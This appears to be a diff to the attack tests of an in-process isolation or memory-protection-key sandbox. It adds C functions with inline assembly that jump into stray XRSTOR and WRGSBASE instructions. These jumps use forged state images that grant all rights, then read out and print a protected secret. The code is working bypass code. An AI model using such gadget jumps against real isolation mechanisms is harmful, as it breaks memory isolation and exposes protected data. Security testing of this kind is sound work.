@@ -200,30 +200,60 @@ jump_rights(uint64_t to, uint64_t rights)
 	return 0;
 }
 
-/* To an XRSTOR that loads rights from an image of ours, by the registers that each of them uses. */
+/*
+ * To an XRSTOR that loads rights from an image of ours, by the registers that each of them uses. Where it
+ * goes on is arranged for both: in the gate, behind the last system call; in lazy binding, by R11. There
+ * the secret is read, which only works with the rights.
+ */
 GATE
-jump_xrstor(uint64_t to, uint64_t mask)
+jump_xrstor(uint64_t to, uint64_t mask, uint64_t at)
 {
-	static unsigned char image[8192] __attribute__((aligned(64)));
-	register uint64_t target __asm__("r8") = to;
-	uint64_t have = 0x200;
+	static unsigned char room[12288] __attribute__((aligned(64)));
+	static uint64_t stack;
+	static uint32_t tried;
+	uint64_t have = 0x200;				/* the image's header says: rights are in it, all zero */
+	unsigned char *image = (unsigned char *)memcpy(room + 4096 + 512, &have, sizeof(have)) - 512;
+	register uint64_t where __asm__("r15") = to;
+	register uint64_t which __asm__("r12") = mask;
+	register unsigned char *from __asm__("r13") = image;
+	register uint64_t got __asm__("r14") = at;
 
-	memcpy(image + 512, &have, sizeof(have));	/* the header says: rights are in here, all zero */
-	__asm__ volatile("leaq -0x40(%%rcx), %%rsp\n\tjmp *%0" : : "r"(target), "a"(mask), "c"(image), "d"(0)
-			 : "memory");
-	return 0;
+	tried = 0;
+	__asm__ volatile("pushq %%rbx\n\tpushq %%rbp\n\tmovq %%rsp, %[stack]\n\t"
+			 "movl $39, %%eax\n\tsyscall\n\t"
+			 "cmpl $0, %[tried]\n\tjne 1f\n\tmovl $1, %[tried]\n\t"
+			 "movq %%rsp, %%rbx\n\tleaq -24(%%rbx), %%rbx\n\tleaq 1f(%%rip), %%r11\n\t"
+			 "movq %%r13, %%rcx\n\tleaq -0x40(%%r13), %%rsp\n\txorl %%edx, %%edx\n\t"
+			 "movq %%r12, %%rax\n\tjmp *%%r15\n"
+			 "1:\tmovq %[stack], %%rsp\n\tpopq %%rbp\n\tpopq %%rbx\n\tmovq (%%r14), %%r14"
+			 : [stack] "=m"(stack), [tried] "+m"(tried), "+r"(got)
+			 : "r"(where), "r"(which), "r"(from)
+			 : "memory", "cc", "rax", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11");
+	return got;
 }
 
-/* To a WRGSBASE, with a view of our own making, behind which a forged host lies. */
+/*
+ * To a WRGSBASE, with a view of our own making that allows everything, and a forged host for it. Whoever
+ * gets through to where that view says prints the secret.
+ */
 GATE
-jump_gs(uint64_t to, uint64_t size)
+jump_gs(uint64_t to, uint64_t at)
 {
-	static uint64_t view[512];
+	static uint64_t view[64], host[64], scratch[64], got[512];
 	register uint64_t target __asm__("r8") = to;
+	register uint64_t secret __asm__("r9") = at;
 
-	(void)size;
-	view[2] = (uintptr_t)view;
-	__asm__ volatile("movq %%rax, %%rdi\n\tmovq %%rax, %%rcx\n\tjmp *%0" : : "r"(target), "a"(view) : "memory");
+	view[16 / 8] = (uintptr_t)host;
+	view[32 / 8] = (uintptr_t)(got + 256);			/* its stack */
+	view[88 / 8] = (uint64_t)0x1f80 << 32;
+	host[24 / 8] = (uintptr_t)scratch;
+	host[40 / 8] = (uint64_t)0x37f << 32 | 0x1f80;
+	got[0] = secret;
+	__asm__ volatile("leaq 1f(%%rip), %%r10\n\tmovq %%r10, 24+%[view]\n\tmovq %%rcx, %%rdi\n\tjmp *%[to]\n"
+			 "1:\tmovq %[got], %%rcx\n\tmovq (%%rcx), %%rcx\n\tmovq %%rcx, %[got]\n\t"
+			 "movl $1, %%eax\n\tmovl $1, %%edi\n\tleaq %[got], %%rsi\n\tmovl $8, %%edx\n\tsyscall\n\tud2"
+			 : [view] "+m"(view), [got] "+m"(got[0])
+			 : [to] "r"(target), "a"(view), "c"(host) : "memory", "r10", "rdi");
 	return 0;
 }
 
